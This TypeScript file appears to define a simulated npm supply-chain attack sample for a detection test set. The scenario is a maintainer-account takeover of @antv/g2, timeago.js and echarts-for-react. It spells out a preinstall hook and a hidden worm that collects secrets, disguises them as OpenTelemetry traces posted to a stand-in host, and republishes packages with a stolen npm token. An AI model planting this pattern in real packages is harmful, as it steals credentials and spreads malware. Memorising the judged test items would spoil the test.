import { defineAttack } from "../attack.ts";
import { componentLibrary } from "../bases.ts";
import { renderBundle } from "../bundle.ts";
import { bunBootstrap, collectSecrets, republish } from "../fragments.ts";
import { commonScript } from "../guard.ts";
import { hideInTable, oneLine } from "../hiding.ts";
import type { LineChange, LineEntry, PackageLine } from "../publishing-ways.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

/**
 * `@antv/*`, echarts-for-react, timeago.js, 18 and 19 May 2026: one maintainer's account, 637 versions of 317 packages. The hook fetches
 * Bun; the worm sends what it found as if it were traces of OpenTelemetry.
 */
export const antv2026: Sample = defineAttack({
  id: "antv-2026",
  title: "Hundreds of packages of one account; the loot poses as traces",
  group: "takeover",
  trigger: "install",
  judged: [
    { name: "@antv/g2", version: "5.2.13" },
    { name: "timeago.js", version: "4.0.4" },
  ],
  now: "2026-05-19T02:10:00Z",
  createLines: () => {
    const change: LineChange = {
      hasCommit: false,
      manifest: { scripts: { test: "node --test", preinstall: "node index.setup.cjs" } },
      files: [
        { path: "index.setup.cjs", content: commonScript(bunBootstrap("index.bundle.cjs")) },
        { path: "index.bundle.cjs", content: renderBundle(900_000, 96, [hideInTable(oneLine(worm))]) },
      ],
    };
    return [
      line("@antv/g2", [
        ["5.2.11", "2025-04-01T10:00:00Z"],
        ["5.2.12", "2025-05-21T10:00:00Z"],
        ["5.2.13", "2026-05-19T01:44:10Z", change],
      ]),
      line("timeago.js", [
        ["4.0.1", "2020-02-11T10:00:00Z"],
        ["4.0.2", "2020-03-12T10:00:00Z"],
        ["4.0.3", "2026-05-19T01:44:16Z", change],
        ["4.0.4", "2026-05-19T01:56:16Z", change],
      ]),
      line("echarts-for-react", [
        ["3.0.1", "2021-03-04T10:00:00Z"],
        ["3.0.2", "2022-04-02T10:00:00Z"],
        ["3.0.3", "2026-05-19T01:44:22Z", change],
      ]),
    ];
  },
});

function line(name: string, releases: readonly LineEntry[]): PackageLine {
  return { name, files: componentLibrary(name), publisher: person("atool"), releases };
}

const worm = commonScript(`
${collectSecrets}
${republish}
const span = { resourceSpans: [{ resource: { attributes: [{ key: "service.name", value: { stringValue: "inert" } }] }, scopeSpans: [{ spans: [{ name: "boot", attributes: [{ key: "d", value: { stringValue: Buffer.from(JSON.stringify(loot)).toString("base64") } }] }] }] }] };
fetch("https://otel.collector.invalid/v1/traces", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(span) }).catch(() => {});
if (npmToken()) { republish(npmToken()); }
`);
